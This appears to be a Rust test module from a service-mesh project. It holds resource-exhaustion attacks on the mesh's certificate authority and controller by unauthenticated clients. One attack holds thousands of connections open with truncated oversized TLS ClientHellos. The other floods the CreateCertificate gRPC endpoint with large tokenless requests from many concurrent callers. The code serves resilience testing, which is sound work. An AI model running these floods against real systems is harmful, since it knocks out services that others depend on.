//! Attacks on the CA and the controller by those who have neither token nor certificate.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use http::Request;
use tidegate_tests::client::h2::H2Connection;
use tidegate_tests::client::{self, Client, Tls};

use crate::attacks::hold;
use crate::site::Site;

/// What a TLS record may hold, and a ClientHello say that it has.
const RECORD: usize = 16_384;
const HELLO: usize = 65_000;
const CONNECTIONS: usize = 3800;
/// Calls at a time, each on a connection of its own.
const CALLERS: usize = 68;
const BODY: usize = 261_000;

pub(crate) fn endless_hello_to_ca(site: &Site, time: Duration) -> u64 {
    endless_hello(site.mesh.ca_address(), time)
}

pub(crate) fn endless_hello_to_controller(site: &Site, time: Duration) -> u64 {
    endless_hello(site.mesh.discovery_address(), time)
}

/// Calls with large bodies and without a token.
pub(crate) fn calls_without_token(site: &Site, time: Duration) -> u64 {
    let address = site.mesh.ca_address();
    let tls = Tls::new(site.mesh.roots(), &address.ip().to_string()).protocols(&["h2"]);
    let client = Client::to(address).from(site.mesh.stranger()).tls(tls);
    let (sent, end) = (Arc::new(AtomicU64::new(0)), Instant::now() + time);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let callers = (0..CALLERS).map(|_| {
            let (client, sent) = (client.clone(), sent.clone());
            tokio::spawn(async move {
                let body = vec![b'x'; BODY];
                while Instant::now() < end {
                    let Ok(connection) = H2Connection::open(&client).await else {
                        tokio::time::sleep(Duration::from_millis(5)).await;
                        continue;
                    };
                    // Until the CA ends the connection.
                    while Instant::now() < end {
                        let uri = format!(
                            "https://{}/istio.v1.auth.IstioCertificateService/CreateCertificate",
                            client.target
                        );
                        let call = Request::post(uri).header("content-type", "application/grpc");
                        let answer = connection.exchange(call.body(()).unwrap(), &body);
                        let answered = tokio::time::timeout(Duration::from_secs(2), answer).await;
                        sent.fetch_add(BODY as u64, Ordering::Relaxed);
                        if !matches!(answered, Ok(Ok(_))) {
                            break;
                        }
                    }
                }
            })
        });
        for caller in callers.collect::<Vec<_>>() {
            caller.await.unwrap();
        }
    });
    sent.load(Ordering::Relaxed)
}

/// A ClientHello that says it is 64 KB long, all but its last bytes.
fn endless_hello(target: SocketAddr, time: Duration) -> u64 {
    let mut bytes = Vec::new();
    let length = (HELLO as u32).to_be_bytes();
    let mut message = [&[1][..], &length[1..]].concat();
    message.resize(HELLO - 100, 0);
    for piece in message.chunks(RECORD) {
        bytes.extend([0x16, 3, 1]);
        bytes.extend((piece.len() as u16).to_be_bytes());
        bytes.extend_from_slice(piece);
    }
    hold(CONNECTIONS, time, || send(target, &bytes))
}

fn send(target: SocketAddr, bytes: &[u8]) -> io::Result<(TcpStream, u64)> {
    let mut stream = client::connect(None, target)?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    stream.write_all(bytes)?;
    Ok((stream, bytes.len() as u64))
}
